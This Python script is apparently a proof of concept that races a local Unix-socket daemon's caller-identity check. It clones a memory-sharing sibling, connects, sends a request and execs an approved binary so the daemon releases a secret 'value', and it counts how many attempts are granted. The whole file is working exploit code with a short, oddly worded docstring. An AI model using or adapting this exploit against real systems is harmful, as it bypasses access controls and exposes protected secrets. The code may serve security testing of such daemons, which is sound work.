"""The attack of sibling.c by an interpreter of the system: all that it executes comes from files that only root can
write, and the approved program is mapped as executable before it is executed.

sibling.py SOCKET REQUEST VICTIM: says "connected", goes on at a line of input, says "changed", goes on again
sibling.py SOCKET REQUEST VICTIM COUNT: again and again without a word
"""
import ctypes
import mmap
import os
import signal
import socket
import sys

CLONE_VM = 0x100
path, request, victim = sys.argv[1:4]
directed = len(sys.argv) == 4
count = 1 if directed else int(sys.argv[4])
libc = ctypes.CDLL(None, use_errno=True)
granted = mmap.mmap(-1, count)


def word(text):
    if directed:
        print(text, flush=True)
        os.read(0, 64)


def until_named(pid, name):
    while open(f"/proc/{pid}/comm").read().strip() != name:
        os.sched_yield()


def attempt(number):
    connection = socket.socket(socket.AF_UNIX)
    connection.set_inheritable(True)
    # A thread of no group of ours: it runs a function of libc for ever, in our memory.
    stack = mmap.mmap(-1, 1 << 16)
    top = ctypes.addressof(ctypes.c_char.from_buffer(stack)) + (1 << 16)
    sibling = libc.clone(libc.pause, ctypes.c_void_p(top), CLONE_VM | signal.SIGCHLD, None)
    # Before it connects: what it does afterwards has to be quick where nobody stops the daemon.
    if os.fork() == 0:
        process = os.getppid()
        try:
            until_named(process, "waiting")
            word("changed")
            connection.settimeout(20)
            answer = connection.recv(65536)
            os.write(1, answer)
            granted[number] = b'"value"' in answer
        finally:
            os.kill(sibling, signal.SIGKILL)
            os.kill(process, signal.SIGKILL)
            os._exit(0)
    try:
        connection.connect(path)
        word("connected")
        connection.sendall(request.encode() + b"\n")
        os.execv(victim, [victim])
    finally:
        os.kill(sibling, signal.SIGKILL)


program = os.open(victim, os.O_RDONLY)
mapped = mmap.mmap(program, os.fstat(program).st_size, mmap.MAP_PRIVATE, mmap.PROT_READ | mmap.PROT_EXEC)
for number in range(count):
    process = os.fork()
    if process == 0:
        attempt(number)
    os.waitpid(process, 0)
print(f"{sum(granted[:])} of {count} granted")
